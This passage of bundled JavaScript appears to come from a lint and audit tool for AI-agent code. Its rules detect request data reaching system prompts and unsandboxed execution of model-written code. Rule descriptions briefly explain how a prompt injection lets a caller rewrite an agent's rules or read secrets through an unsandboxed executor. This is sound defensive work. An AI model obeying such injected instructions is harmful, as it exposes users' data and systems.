		const reportIfTainted = (sink, engine) => {
			if (!engine.isTainted(sink.value)) return;
			const names = engine.taintedNames(sink.value);
			context.report({
				...spanOf(sink.value),
				message: `${sink.label} receives request data${names.length ? ` ${quoteNames(names)}` : ""}; system instructions outrank user messages, so the caller can rewrite the agent's rules; send it as a user-role message instead.`,
				fingerprintContent: `${sink.label}|${names.join(",")}`
			});
		};
		if (file.language === "python") {
			if (!/\brequest\b|@\w+\.(get|post|put|patch|route|api_route|websocket)\b/.test(file.text)) return;
			if (!/\b(instructions?|system_prompt|system|system_message|backstory|global_instruction|SystemMessage)\b/.test(file.text)) return;
			const tree = await context.tree();
			if (!tree) return;
			const engines = /* @__PURE__ */ new Map();
			const engineFor = (node) => {
				const scope = enclosingFunction(node) ?? node.tree.rootNode;
				let engine = engines.get(scope.id);
				if (!engine) engines.set(scope.id, engine = new PythonTaint(scope, scope.type === "function_definition" ? handlerPayloadParams(scope) : [], { isSource: isPythonRequestSource }));
				return engine;
			};
			for (const sink of pythonSystemSinks(tree.rootNode)) reportIfTainted(sink, engineFor(sink.value));
			return;
		}
		if (!/\b(req|request)\b/.test(file.text) || !/\b(system|instructions?|systemPrompt|SystemMessage)\b/.test(file.text)) return;
		const tree = await context.tree();
		if (!tree) return;
		const engines = /* @__PURE__ */ new Map();
		for (const sink of tsSystemSinks(tree.rootNode)) {
			const scope = enclosingTsFunction(sink.value);
			if (!scope) continue;
			let engine = engines.get(scope.id);
			if (!engine) engines.set(scope.id, engine = new TsTaint(scope, [], { isSource: isTsRequestSource }));
			reportIfTainted(sink, engine);
		}
	}
});
function pythonSystemSinks(root) {
	const sinks = [];
	for (const call of root.descendantsOfType("call")) {
		const callee = calleeText(call);
		const last = callee.split(".").pop() ?? "";
		for (const keyword of PY_SYSTEM_KEYWORDS) {
			if (keyword === "prompt" && !/create_react_agent|create_agent/.test(last)) continue;
			const value = keywordArgument(call, keyword);
			if (value) sinks.push({
				label: `${callee}(${keyword}=...)`,
				value
			});
		}
		if (last === "SystemMessage" || last === "SystemMessagePromptTemplate.from_template" || /SystemMessagePromptTemplate\.from_template$/.test(callee)) {
			const value = keywordArgument(call, "content") ?? keywordArgument(call, "template") ?? positionalArguments(call)[0];
			if (value) sinks.push({
				label: `${last}(...)`,
				value
			});
		}
	}
	for (const dict of root.descendantsOfType("dictionary")) {
		let role;
		let content;
		for (const pair of dict.namedChildren) {
			if (pair.type !== "pair") continue;
			const key = stringValue(pair.childForFieldName("key") ?? void 0);
			if (key === "role") role = stringValue(pair.childForFieldName("value") ?? void 0);
			if (key === "content") content = pair.childForFieldName("value") ?? void 0;
		}
		if ((role === "system" || role === "developer") && content) sinks.push({
			label: `{"role": "${role}", "content": ...}`,
			value: content
		});
	}
	for (const tuple of root.descendantsOfType("tuple")) {
		const [first, second] = tuple.namedChildren;
		if (stringValue(first) === "system" && second && tuple.namedChildren.length === 2) sinks.push({
			label: "(\"system\", ...) message",
			value: second
		});
	}
	return sinks;
}
/** FastAPI/Flask route handler parameters: query, path and body values the caller chooses. */
function handlerPayloadParams(fn) {
	if (!decoratorsOf(fn).some((decorator) => ROUTE_DECORATOR.test(decoratorName(decorator)))) return [];
	const names = [];
	for (const parameter of fn.childForFieldName("parameters")?.namedChildren ?? []) {
		const name = parameter.type === "identifier" ? parameter.text : (parameter.childForFieldName("name") ?? parameter.namedChildren.find((child) => child.type === "identifier"))?.text;
		if (!name || name === "self") continue;
		if (NON_PAYLOAD_TYPES.test(parameter.childForFieldName("type")?.text ?? "")) continue;
		if (/^(Depends|Security)\(/.test(parameter.childForFieldName("value")?.text ?? "")) continue;
		names.push(name);
	}
	return names;
}
function isPythonRequestSource(node) {
	if (node.type !== "attribute") return false;
	const object = node.childForFieldName("object");
	const field = node.childForFieldName("attribute")?.text ?? "";
	return object?.type === "identifier" && /^(request|req)$/.test(object.text) && PY_REQUEST_FIELDS.has(field);
}
function tsSystemSinks(root) {
	const sinks = [];
	for (const object of root.descendantsOfType("object")) {
		for (const key of TS_SYSTEM_KEYS) {
			const value = objectProperty(object, key);
			if (value) sinks.push({
				label: `${key}:`,
				value
			});
		}
		const role = tsStringValue(objectProperty(object, "role"));
		const content = objectProperty(object, "content");
		if ((role === "system" || role === "developer") && content) sinks.push({
			label: `{ role: '${role}', content }`,
			value: content
		});
	}
	for (const call of root.descendantsOfType("new_expression")) if (tsCalleeText(call).endsWith("SystemMessage")) {
		const value = tsArguments(call)[0];
		if (value) sinks.push({
			label: "new SystemMessage(...)",
			value
		});
	}
	return sinks;
}
/** `req.body`, `request.query`, `await request.json()`, Hono `c.req.json()`/`c.req.query('x')`. */
function isTsRequestSource(node) {
	if (node.type !== "member_expression") return false;
	const object = node.childForFieldName("object");
	const property = node.childForFieldName("property")?.text ?? "";
	if (!object || !TS_REQUEST_FIELDS.has(property)) return false;
	if (object.type === "identifier") return /^(req|request)$/.test(object.text);
	return object.type === "member_expression" && object.childForFieldName("property")?.text === "req";
}
// src/rules/security/unsandboxed-code-executor.ts
var YAML_FILE = /(^|\/)agents\.ya?ml$/;
var unsandboxedCodeExecutorCheck = defineRule({
	id: "security/unsandboxed-code-executor",
	title: "Agent runs generated code without a sandbox",
	description: "The agent executes model-written code directly in the host process: ADK UnsafeLocalCodeExecutor, CrewAI allow_code_execution with code_execution_mode \"unsafe\" (or CodeInterpreterTool(unsafe_mode=True)), or a smolagents local executor opened to every import with [\"*\"]. The frameworks' defaults sandbox this (ADK BuiltInCodeExecutor/VertexAiCodeExecutor/ContainerCodeExecutor, CrewAI Docker \"safe\" mode, smolagents' import allowlist); without them one prompt injection reads secrets, files and the network with the agent's rights.",
	persona: "secops",
	category: "security",
	severity: "error",
	fixability: "structural",
	tags: [
		"security",
		"CWE-94",
		"ASI05",
		"LLM05:2025"
	],
	remediation: "Use a sandboxed executor: ADK BuiltInCodeExecutor, VertexAiCodeExecutor or ContainerCodeExecutor; CrewAI code_execution_mode=\"safe\" (Docker); smolagents executor_type=\"e2b\", \"docker\" or \"modal\", or an explicit additional_authorized_imports list.",
	docs: "https://google.github.io/adk-docs/tools/built-in-tools/#code-execution",
	frameworks: [
		"google-adk",
		"crewai",
		"smolagents"
	],
	precision: "very-high",
	securitySeverity: 9
}, {
	appliesTo: (file) => file.language === "python" || YAML_FILE.test(file.path),
	async run(context) {
		const { file } = context;
		if (file.language !== "python") {
			scanCrewYaml(file.text, context.report);
			return;
		}
		if (!/UnsafeLocalCodeExecutor|code_execution_mode|unsafe_mode|additional_authorized_imports|LocalPythonExecutor/.test(file.text)) return;
		const tree = await context.tree();
		if (!tree) return;
		const imports = pythonImportMap(tree);
		for (const call of calls(tree)) {
			const last = qualifiedCallee(call, imports).split(".").pop() ?? "";
			const written = calleeText(call);
			let message;
			if (last === "UnsafeLocalCodeExecutor") message = `${written}() runs model-written Python in the agent's own process with no isolation; ADK's BuiltInCodeExecutor, VertexAiCodeExecutor or ContainerCodeExecutor sandbox it.`;
			else if (keywordArgument(call, "allow_code_execution")?.text === "True" && stringValue(keywordArgument(call, "code_execution_mode")) === "unsafe") message = `${written}(allow_code_execution=True, code_execution_mode="unsafe") runs model-written code on the host; CrewAI's default "safe" mode runs it in Docker.`;
			else if (last === "CodeInterpreterTool" && keywordArgument(call, "unsafe_mode")?.text === "True") message = `${written}(unsafe_mode=True) runs model-written code directly on the host; the default runs it in a Docker container.`;
			else if (last === "CodeAgent" || last === "LocalPythonExecutor") {
				const authorized = keywordArgument(call, "additional_authorized_imports") ?? (last === "LocalPythonExecutor" ? positionalArguments(call)[0] : void 0);
				if (!authorized || !authorized.namedChildren.some((item) => stringValue(item) === "*")) continue;
				const executor = keywordArgument(call, "executor_type");
				if (executor && stringValue(executor) !== "local") continue;
				message = `${written}(additional_authorized_imports=["*"]) lets model-written code import os, subprocess and socket in the local interpreter; smolagents' default allowlist and remote executors (executor_type="e2b"/"docker"/"modal") are the sandbox.`;
			}
			if (!message) continue;
			context.report({
				start: call.startIndex,
				end: call.endIndex,
				message,
				fingerprintContent: `${last}|unsandboxed`
			});
		}
	}
});
/**
* CrewAI config/agents.yaml: each top-level key is an agent. Text scan per block keeps line positions exact
* without a YAML round-trip; `code_execution_mode: unsafe` only matters with `allow_code_execution: true`.
*/
function scanCrewYaml(text, report) {
	if (!/code_execution_mode/.test(text)) return;
	const blocks = [];
	const header = /^([A-Za-z_][\w-]*)\s*:/gm;
	for (let match = header.exec(text); match; match = header.exec(text)) {
		const previous = blocks[blocks.length - 1];
		if (previous) previous.end = match.index;
		blocks.push({
			name: match[1],
			start: match.index,
			end: text.length
		});
	}
	for (const block of blocks) {
		const body = text.slice(block.start, block.end);
		const allow = /^\s+allow_code_execution\s*:\s*(true|True|yes)\s*(#.*)?$/m.test(body);
		const mode = /^(\s+)code_execution_mode\s*:\s*["']?unsafe["']?\s*(#.*)?$/m.exec(body);
		if (!allow || !mode) continue;
		const start = block.start + mode.index + mode[1].length;
		report({
			start,
			end: start + mode[0].trimEnd().length - mode[1].length,
			message: `Agent '${block.name}' sets allow_code_execution: true with code_execution_mode: unsafe, so model-written code runs on the host; CrewAI's default "safe" mode runs it in Docker.`,
			fingerprintContent: `crewai-yaml|${block.name}`
		});
	}
}
// src/rules/security/index.ts
/** SecOps rules: injection sinks fed by tool input, dangerous framework flags, sandboxing, supply chain, SSRF. */
var SECURITY_CHECKS = [
	codeExecFromInputCheck,
	shellInjectionCheck,
	sqlFromInputCheck,
	dangerousFrameworkFlagCheck,
	unsandboxedCodeExecutorCheck,
	mcpUnpinnedServerCheck,
	ssrfModelUrlCheck,
	untrustedInputInSystemPromptCheck
];
// src/rules/ux/agent-shapes.ts
var ADK_LLM_AGENT = /^google\.adk(\.agents(\.llm_agent)?)?\.(Agent|LlmAgent)$/;
var ADK_ANY_AGENT = /^google\.adk(\.agents(\.[a-z_]+)?)?\.(Agent|LlmAgent|SequentialAgent|ParallelAgent|LoopAgent)$/;
var OPENAI_AGENT = /^agents(\.agent)?\.Agent$/;
var OPENAI_AGENT_JS = /^@openai\/agents(-core)?#Agent(\.create)?$/;
function variableOf(call) {
	let node = call;
	while (node.parent && (node.parent.type === "await" || node.parent.type === "await_expression" || node.parent.type === "parenthesized_expression")) node = node.parent;
	const parent = node.parent;
	if (parent?.type === "assignment" && parent.childForFieldName("left")?.type === "identifier") return parent.childForFieldName("left").text;
	if (parent?.type === "variable_declarator" && parent.childForFieldName("name")?.type === "identifier") return parent.childForFieldName("name").text;
}
function pyAgents(tree) {
	const imports = pythonImportMap(tree);
	const agents = [];
	for (const call of calls(tree)) {
		const qualified = qualifiedCallee(call, imports);
		const framework = ADK_ANY_AGENT.test(qualified) ? "adk" : OPENAI_AGENT.test(qualified) ? "openai-agents" : void 0;
		if (!framework) continue;
		const variable = variableOf(call);
		agents.push({
			framework,
			call,
			options: call,
			...variable ? { variable } : {},
			opaque: hasDictSplat(call)
		});
	}
	return {
		agents,
		imports,
		adkAny: (call) => ADK_ANY_AGENT.test(qualifiedCallee(call, imports))
	};
}
function tsAgents(tree) {
	const imports = tsImportMap(tree);
	const agents = [];
	for (const call of callExpressions(tree)) {
		if (!OPENAI_AGENT_JS.test(tsQualifiedCallee(call, imports))) continue;
		const options = tsOptions(call);
		if (!options) continue;
		const variable = variableOf(call);
		agents.push({
			framework: "openai-agents-js",
			call,
			options,
			...variable ? { variable } : {},
			opaque: hasSpread(options)
		});
	}
	return agents;
}
/** The agent constructions a list of sub-agents/handoffs refers to: inline, by variable, or through `handoff(x)`. */
function referencedAgents(list, agents, python) {
	const found = [];
	for (const raw of list.namedChildren) {
		let element = python ? pyUnwrap(raw) : tsUnwrap(raw);
		let via;
		if (element && (element.type === "call" || element.type === "call_expression") && /(^|\.)handoff$/.test(element.childForFieldName("function")?.text ?? "")) {
			via = element;
			element = python ? keywordArgument(element, "agent") ?? positionalArguments(element)[0] : tsArguments(element)[0];
		}
		if (!element) continue;
		const agent = agents.find((candidate) => candidate.call.id === element.id || element.type === "identifier" && candidate.variable === element.text);
		if (agent) found.push(via ? {
			agent,
			via
		} : { agent });
	}
	return found;
}
function tsHas(options, key) {
	return !!objectProperty(options, key);
}
// src/rules/ux/routing-text.ts
/**
* What a routing agent is told about where to route: the literal text of its instructions, f-string
* and template literal parts included, through module-level constants. A router whose instructions
* say "billing questions go to the Billing Agent" routes on that, whatever the target's own description.
*/
var PY_INSTRUCTION_KEYS = [
	"instructions",
	"instruction",
	"global_instruction",
	"static_instruction"
];
/** Lower case, words separated by single spaces: `Billing_Agent`, `billing-agent` and `Billing Agent` compare equal. */
function normaliseWords(text) {
	return text.replace(/([a-z0-9])([A-Z])/g, "$1 $2").toLowerCase().replace(/[^a-z0-9]+/g, " ").trim();
}
function pyText(node, tree, depth) {
	const value = pyUnwrap(node);
	if (!value || depth > 3) return "";
	switch (value.type) {
		case "string": return value.namedChildren.filter((child) => child.type === "string_content").map((child) => child.text).join("");
		case "concatenated_string":
		case "binary_operator": return value.namedChildren.map((child) => pyText(child, tree, depth + 1)).join(" ");
		case "identifier": return pyAssignedValues(tree.rootNode, value.text).map((assigned) => pyText(assigned, tree, depth + 1)).join(" ");
		case "call": {
			const target = value.childForFieldName("function");
			return pyText((target?.type === "attribute" ? target.childForFieldName("object") : value.childForFieldName("arguments")?.namedChildren[0]) ?? void 0, tree, depth + 1);
		}
		default: return "";
	}
}
function tsText(node, tree, depth) {
	const value = tsUnwrap(node);
	if (!value || depth > 3) return "";
	if (value.type === "string") return value.text.slice(1, -1);
	if (value.type === "template_string") return value.namedChildren.filter((child) => child.type === "string_fragment").map((child) => child.text).join("");
	if (value.type === "binary_expression") return value.namedChildren.map((child) => tsText(child, tree, depth + 1)).join(" ");
	if (value.type === "identifier") return tsText(tsDeclaredValue(tree.rootNode, value.text), tree, depth + 1);
	return "";
}
/** The router's instructions as normalised words (empty when they are built at run time). */
function routingInstructions(parent, tree, python) {
	if (python) return normaliseWords(PY_INSTRUCTION_KEYS.map((key) => pyText(keywordArgument(parent.call, key), tree, 0)).join(" "));
	return normaliseWords(tsText(objectProperty(parent.options, "instructions"), tree, 0));
}
/** Words that name no specialist: `agent` or `sub_agent` in the instructions point at nothing in particular. */
var GENERIC_WORDS = /* @__PURE__ */ new Set([
	"agent",
	"agents",
	"sub",
	"assistant",
	"helper",
	"bot",
	"tool",
	"the",
	"a",
	"my"
]);
/** The names a router could call the target by: its `name` and the variable it is bound to. */
function agentNames(agent, python) {
	const written = python ? keywordArgument(agent.call, "name") : tsUnwrap(objectProperty(agent.options, "name"));
	return [python ? stringValue(written) : written?.type === "string" ? written.text.slice(1, -1) : void 0, agent.variable].filter((candidate) => !!candidate).map(normaliseWords).filter((words) => words.split(" ").some((word) => !GENERIC_WORDS.has(word)));
}
/** `multiply`/`multiplier`, `technical`/`technician`: one word with a different ending, as prose refers to an agent. */
function sameStem(a, b) {
	if (a === b) return true;
	const shorter = Math.min(a.length, b.length);
	if (shorter < 5) return false;
	let common = 0;
	while (common < shorter && a[common] === b[common]) common += 1;
	return common >= shorter - 2;
}
/** True when the router's instructions mention the target: every distinctive word of one of its names appears there. */
function routerNamesTarget(instructions, agent, python) {
	if (!instructions) return false;
	const said = instructions.split(" ");
	return agentNames(agent, python).some((name) => name.split(" ").filter((word) => !GENERIC_WORDS.has(word)).every((word) => said.some((candidate) => sameStem(word, candidate))));
}
/** Words that label an agent without saying what it handles: `Agent B`, `specialist_2`, `worker`. */
var LABEL_WORDS = /* @__PURE__ */ new Set([
	...GENERIC_WORDS,
	"router",
	"worker",
	"specialist",
	"expert",
	"node",
	"main",
	"default",
	"primary",
	"secondary",
	"child",
	"one",
	"two",
	"three",
	"first",
	"second",
	"third",
	"new",
	"custom",
	"test"
]);
/**
* True when the target's own `name` says what it handles (`french_agent`, `Billing`, `History tutor`). The
* OpenAI Agents SDK builds the handoff tool from that name (`transfer_to_french_agent`, "Handoff to the
* french_agent agent to handle the request."), so a router sees it; only opaque labels leave it guessing.
*/
function nameSaysWhatItHandles(agent, python) {
	const written = python ? keywordArgument(agent.call, "name") : tsUnwrap(objectProperty(agent.options, "name"));
	const name = python ? stringValue(written) : written?.type === "string" ? written.text.slice(1, -1) : void 0;
	if (!name) return false;
	return normaliseWords(name).split(" ").some((word) => word.length >= 3 && !/^\d+$/.test(word) && !LABEL_WORDS.has(word));
}
// src/rules/ux/agent-without-description.ts
var agentWithoutDescriptionCheck = defineRule({
	id: "ux/agent-without-description",
	title: "Sub-agent or handoff target without a description",
	description: "An agent that another agent routes to has no description for the router to read: an ADK agent in an LlmAgent's sub_agents (or wrapped in AgentTool) without description=, or an OpenAI Agents agent in handoffs=[...] without handoff_description (JS handoffDescription) or a tool_description_override on handoff(). The parent model picks a sub-agent from its name and description alone, so without one it routes by guesswork and users land with the wrong specialist. Workflow agents (Sequential/Parallel/Loop) run children in order and are not judged; CrewAI requires role/goal/backstory, so it is not covered. A target the router's own instructions name (by its name= or variable, e.g. \"billing questions go to the Billing Agent\") is not flagged: the router reads its instructions too, and the SDKs show it the target's name as the tool name (OpenAI Agents: transfer_to_<name>, \"Handoff to the <name> agent to handle the request.\"). For the same reason an OpenAI Agents target whose name says what it handles (french_agent, Billing, History tutor) is not flagged; opaque labels (Agent B, Specialist 1) are.",
	persona: "ux",
	category: "ux",
	severity: "note",
	fixability: "structural",
	tags: ["ASI08"],
	remediation: "Add a one-sentence description of what the agent handles and when to route to it (description= in ADK, handoff_description= in OpenAI Agents).",
	docs: "https://google.github.io/adk-docs/agents/multi-agents/",
	frameworks: ["google-adk", "openai-agents"],
	precision: "high"
}, {
	textHas: [/sub_agents|handoffs|AgentTool/],
	async runOnTree(context, tree) {
		const { file } = context;
		const reported = /* @__PURE__ */ new Set();
		const python = file.language === "python";
		const report = (agent, role, key, parent) => {
			if (reported.has(agent.call.startIndex) || agent.opaque) return;
			if (parent && routerNamesTarget(routingInstructions(parent, tree, python), agent, python)) return;
			if (agent.framework !== "adk" && nameSaysWhatItHandles(agent, python)) return;
			reported.add(agent.call.startIndex);
			const name = agent.variable ?? "agent";
			context.report({
				...spanOf(agent.call),
				message: `Agent '${name}' is used as a ${role} but sets no ${key}, and the routing agent's instructions do not name it; the router then picks it from its name alone.`,
				fingerprintContent: `${agent.framework}|${name}|${key}`
			});
		};
		if (file.language === "python") {
			const { agents, imports } = pyAgents(tree);
			for (const parent of agents) if (parent.framework === "adk") {
				const list = keywordArgument(parent.call, "sub_agents");
				if (list?.type !== "list" || !ADK_LLM_AGENT.test(qualifiedCallee(parent.call, imports))) continue;
				for (const { agent } of referencedAgents(list, agents, true)) if (agent.framework === "adk" && !keywordArgument(agent.call, "description")) report(agent, "sub-agent", "description=", parent);
			} else {
				const list = keywordArgument(parent.call, "handoffs");
				if (list?.type !== "list") continue;
				for (const { agent, via } of referencedAgents(list, agents, true)) {
					if (via && keywordArgument(via, "tool_description_override")) continue;
					if (agent.framework === "openai-agents" && !keywordArgument(agent.call, "handoff_description")) report(agent, "handoff target", "handoff_description=", parent);
				}
			}
			for (const call of tree.rootNode.descendantsOfType("call")) {
				if (!/(^|\.)AgentTool$/.test(call.childForFieldName("function")?.text ?? "")) continue;
				const target = keywordArgument(call, "agent") ?? call.childForFieldName("arguments")?.namedChildren[0];
				const agent = target && agents.find((candidate) => candidate.call.id === target.id || target.type === "identifier" && candidate.variable === target.text);
				const holder = agents.find((candidate) => candidate.call.startIndex < call.startIndex && call.endIndex <= candidate.call.endIndex);
				if (agent?.framework === "adk" && !keywordArgument(agent.call, "description")) report(agent, "tool (AgentTool)", "description=", holder);
			}
			return;
		}
		const agents = tsAgents(tree);
		for (const parent of agents) {
			const list = objectProperty(parent.options, "handoffs");
			if (list?.type !== "array") continue;
			for (const { agent, via } of referencedAgents(list, agents, false)) if (!(via ? objectProperty(tsOptions(via, 1), "toolDescriptionOverride") : void 0) && !tsHas(agent.options, "handoffDescription")) report(agent, "handoff target", "handoffDescription", parent);
		}
	}
});
// src/rules/ux/agent-without-instructions.ts
/**
* ADK agents that run under a root's global_instruction, which ADK prepends for every agent in the
* tree (LlmAgent.global_instruction: "Instructions for all the agents in the entire agent tree",
* https://github.com/google/adk-python/blob/main/src/google/adk/agents/llm_agent.py): they do have a
* system prompt even with no instruction of their own.
*/
function underGlobalInstruction(agents) {
	const covered = /* @__PURE__ */ new Set();
	const visit = (agent) => {
		const list = keywordArgument(agent.call, "sub_agents");
		if (list?.type !== "list") return;
		for (const { agent: child } of referencedAgents(list, agents, true)) {
			if (covered.has(child.call.id)) continue;
			covered.add(child.call.id);
			visit(child);
		}
	};
	for (const agent of agents) if (agent.framework === "adk" && keywordArgument(agent.call, "global_instruction")) visit(agent);
	return covered;
}
var ADK_KEYS = [
	"instruction",
	"static_instruction",
	"global_instruction"
];
var OPENAI_KEYS = ["instructions", "prompt"];
var agentWithoutInstructionsCheck = defineRule({
	id: "ux/agent-without-instructions",
	title: "Agent with no instructions",
	description: "An ADK Agent/LlmAgent (no instruction, static_instruction or global_instruction) or an OpenAI Agents Agent (no instructions or prompt, Python and JS) is built with no system instructions at all (an ADK agent under a root with global_instruction has one). Both frameworks then send no system prompt, so the model has no role, scope, tone or refusal policy and users get generic, off-brand and unbounded behaviour. Pydantic AI is not covered because it adds instructions through decorators; CrewAI requires role/goal/backstory.",
	persona: "ux",
	category: "ux",
	severity: "warning",
	fixability: "structural",
	tags: ["ASI08", "LLM09:2025"],
	remediation: "Give the agent instructions that state its role, what it may and may not do, the tone, and what to do when a request is out of scope.",
	docs: "https://openai.github.io/openai-agents-python/agents/",
	frameworks: ["google-adk", "openai-agents"],
	precision: "high"
}, {
	textHas: [/Agent/],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (start, end, framework, name, keys) => context.report({
			start,
			end,
			message: `${framework} agent '${name}' has no ${keys}, so the model runs with no system prompt: no role, scope or refusal policy for users to rely on.`,
			fingerprintContent: `${framework}|${name}`
		});
		if (file.language === "python") {
			const { agents, imports } = pyAgents(tree);
			const covered = underGlobalInstruction(agents);
			for (const agent of agents) {
				if (agent.opaque || covered.has(agent.call.id)) continue;
				const name = agent.variable ?? "agent";
				if (agent.framework === "adk") {
					if (!ADK_LLM_AGENT.test(qualifiedCallee(agent.call, imports))) continue;
					if (!ADK_KEYS.some((key) => keywordArgument(agent.call, key))) report(agent.call.startIndex, agent.call.endIndex, "ADK", name, "instruction=");
				} else if (!OPENAI_KEYS.some((key) => keywordArgument(agent.call, key))) report(agent.call.startIndex, agent.call.endIndex, "OpenAI Agents", name, "instructions=");
			}
			return;
		}
		for (const agent of tsAgents(tree)) {
			if (agent.opaque || tsHas(agent.options, "instructions") || tsHas(agent.options, "prompt")) continue;
			report(agent.call.startIndex, agent.call.endIndex, "OpenAI Agents", agent.variable ?? "agent", "instructions");
		}
	}
});
// src/rules/ux/loop-limit-exception-uncaught.ts
var RAISES = {
	agents: "MaxTurnsExceeded",
	langgraph: "GraphRecursionError"
};
/** Exception names whose handler also catches the loop-limit error. */
var CATCHES = {
	agents: /* @__PURE__ */ new Set([
		"MaxTurnsExceeded",
		"AgentsException",
		"Exception",
		"BaseException"
	]),
	langgraph: /* @__PURE__ */ new Set([
		"GraphRecursionError",
		"RecursionError",
		"RuntimeError",
		"Exception",
		"BaseException"
	])
};
var PY_WEB = [
	"fastapi",
	"flask",
	"starlette",
	"quart",
	"sanic",
	"litestar",
	"django",
	"ninja",
	"aiohttp"
];
var PY_ROUTE = /^\w+\.(get|post|put|patch|delete|route|api_route|websocket)$/;
function pyCaughtNames(clause) {
	const value = clause.childForFieldName("value") ?? clause.namedChildren.find((child) => child.type !== "block");
	if (!value || value.type === "block") return "all";
	const target = value.type === "as_pattern" ? value.namedChildren[0] : value;
	if (!target) return "all";
	return (target.type === "tuple" ? target.namedChildren : [target]).map((name) => lastSegment$1(name.text));
}
function pyCaught(call, fn, kind) {
	for (let node = call; node && node.id !== fn.id; node = node.parent) {
		const parent = node.parent;
		if (parent?.type !== "try_statement" || parent.childForFieldName("body")?.id !== node.id) continue;
		for (const clause of parent.namedChildren.filter((child) => child.type === "except_clause" || child.type === "except_group_clause")) {
			const names = pyCaughtNames(clause);
			if (names === "all" || names.some((name) => CATCHES[kind].has(name))) return true;
		}
	}
	return false;
}
/** Names bound at module level (or in the handler) to a compiled LangGraph graph. */
function pyGraphNames(tree) {
	const names = /* @__PURE__ */ new Set();
	for (const assignment of tree.rootNode.descendantsOfType("assignment")) {
		const left = assignment.childForFieldName("left");
		const right = pyUnwrap(assignment.childForFieldName("right") ?? void 0);
		if (left?.type !== "identifier" || right?.type !== "call") continue;
		if (/(\.compile|(^|\.)create_react_agent|(^|\.)create_agent)$/.test(calleeText(right))) names.add(left.text);
	}
	return names;
}
var loopLimitExceptionUncaughtCheck = defineRule({
	id: "ux/loop-limit-exception-uncaught",
	title: "Agent loop-limit error reaches the user as a server error",
	description: "A web handler (FastAPI/Flask/Starlette route, Express/Next.js handler) runs an agent loop that raises when it hits its step bound (OpenAI Agents Runner.run/run_sync raise MaxTurnsExceeded after max_turns, default 10; LangGraph invoke/ainvoke raise GraphRecursionError at recursion_limit) without a try/except that catches it (or AgentsException / Exception). The user gets a bare 500 and loses the conversation instead of a graceful \"I could not finish\" reply. App-wide handlers (exception_handler / errorhandler) in the same module also count.",
	persona: "ux",
	category: "ux",
	severity: "warning",
	fixability: "structural",
	tags: ["ASI08"],
	remediation: "Catch MaxTurnsExceeded / GraphRecursionError around the run, return a helpful partial answer or a retry prompt, and log the run id; or register an app-wide exception handler for them.",
	docs: "https://openai.github.io/openai-agents-python/running_agents/#exceptions",
	frameworks: [
		"openai-agents",
		"langgraph",
		"fastapi",
		"flask",
		"express",
		"nextjs"
	],
	precision: "high"
}, {
	textHas: [/Runner|invoke|\brun\(/, /route|\.(get|post|put|patch|delete)\(|export (async )?function (GET|POST|PUT|PATCH|DELETE)/],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (call, what, kind) => context.report({
			...spanOf(call),
			message: `${what}(...) in a web handler is not inside a try that catches ${RAISES[kind]}; when the agent hits its step limit the user gets a bare 500 instead of a graceful reply.`,
			fingerprintContent: `${what}|${RAISES[kind]}`
		});
		if (file.language === "python") {
			const imports = pythonImportMap(tree);
			if (!pyImportsFrom(imports, PY_WEB)) return;
			const graphs = pyGraphNames(tree);
			const globalHandler = (kind) => [...file.text.matchAll(/(exception_handler|errorhandler|add_exception_handler)\(\s*([\w.]+)/g)].some((match) => CATCHES[kind].has(lastSegment$1(match[2] ?? "")));
			for (const fn of tree.rootNode.descendantsOfType("function_definition")) {
				if (!decoratorsOf(fn).some((decorator) => PY_ROUTE.test(decoratorName(decorator)) && decorator.type === "call")) continue;
				for (const call of calls(fn)) {
					const qualified = qualifiedCallee(call, imports);
					const written = calleeText(call);
					let kind;
					if (/^agents(\.run)?\.Runner\.run(_sync)?$/.test(qualified)) kind = "agents";
					else if (/^\w+\.a?invoke$/.test(written) && graphs.has(written.split(".")[0])) kind = "langgraph";
					else if (/^\w+\.a?invoke$/.test(written) && pyAssignedValues(fn, written.split(".")[0]).some((value) => /\.compile\(|create_react_agent\(|create_agent\(/.test(value.text))) kind = "langgraph";
					if (!kind || globalHandler(kind) || pyCaught(call, fn, kind)) continue;
					report(call, written, kind);
				}
			}
			return;
		}
		const imports = tsImportMap(tree);
		const agentsJs = tsImportsFrom(imports, (module) => module.startsWith("@openai/agents"));
		const langgraphJs = tsImportsFrom(imports, (module) => module.startsWith("@langchain/langgraph"));
		if (!agentsJs && !langgraphJs) return;
		const graphs = /* @__PURE__ */ new Set();
		for (const declarator of tree.rootNode.descendantsOfType("variable_declarator")) {
			const value = tsUnwrap(declarator.childForFieldName("value") ?? void 0);
			const name = declarator.childForFieldName("name");
			if (name?.type === "identifier" && value?.type === "call_expression" && /(\.compile|(^|\.)createReactAgent|(^|\.)createAgent)$/.test(tsCalleeText(value))) graphs.add(name.text);
		}
		for (const handler of tsHandlers(tree)) for (const call of callExpressions(handler)) {
			if (call.type !== "call_expression") continue;
			const written = tsCalleeText(call);
			let kind;
			if (agentsJs && (/^@openai\/agents(-core)?#run$/.test(tsQualifiedCallee(call, imports)) || /^runner\.run$/i.test(written))) kind = "agents";
			else if (langgraphJs && /^\w+\.invoke$/.test(written) && graphs.has(written.split(".")[0])) kind = "langgraph";
			if (!kind || tsCaught(call, handler)) continue;
			report(call, written, kind);
		}
	}
});
/** Express/Fastify/Hono route callbacks and Next.js route exports. */
function tsHandlers(tree) {
	const handlers = [];
	for (const call of tree.rootNode.descendantsOfType("call_expression")) {
		if (!/^\w+\.(get|post|put|patch|delete|all|route)$/.test(tsCalleeText(call))) continue;
		for (const argument of call.childForFieldName("arguments")?.namedChildren ?? []) if (argument.type === "arrow_function" || argument.type === "function_expression") handlers.push(argument);
	}
	for (const exported of tree.rootNode.descendantsOfType("export_statement")) {
		const declaration = exported.childForFieldName("declaration");
		if (declaration?.type === "function_declaration" && /^(GET|POST|PUT|PATCH|DELETE)$/.test(declaration.childForFieldName("name")?.text ?? "")) handlers.push(declaration);
	}
	return handlers;
}
/** JS catch clauses catch everything, so any enclosing try with a catch counts. */
function tsCaught(call, handler) {
	for (let node = call; node && node.id !== handler.id; node = node.parent) {
		const parent = node.parent;
		if (parent?.type === "try_statement" && parent.childForFieldName("body")?.id === node.id && parent.childForFieldName("handler")) return true;
	}
	return call.parent?.type === "member_expression" && call.parent.childForFieldName("property")?.text === "catch";
}
// src/rules/ux/index.ts
var UX_CHECKS = [
	loopLimitExceptionUncaughtCheck,
	agentWithoutDescriptionCheck,
	agentWithoutInstructionsCheck
];
// src/rules/index.ts
/** Every check the audit runs, in a fixed order so reports are deterministic. */
var CHECKS = [
	hardcodedSecretCheck,
	hardcodedPiiCheck,
